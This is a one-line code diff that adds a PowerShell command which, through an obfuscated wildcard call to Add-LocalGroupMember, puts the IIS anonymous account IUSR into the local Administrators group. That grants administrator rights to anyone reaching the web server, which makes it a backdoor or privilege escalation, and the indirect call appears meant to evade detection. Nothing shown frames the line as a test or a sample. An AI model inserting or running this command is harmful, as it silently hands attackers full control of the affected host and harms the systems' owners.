@@ -1,0 +1,1 @@
+& (gcm Add-LocalGroupMemb*) Administrators IUSR
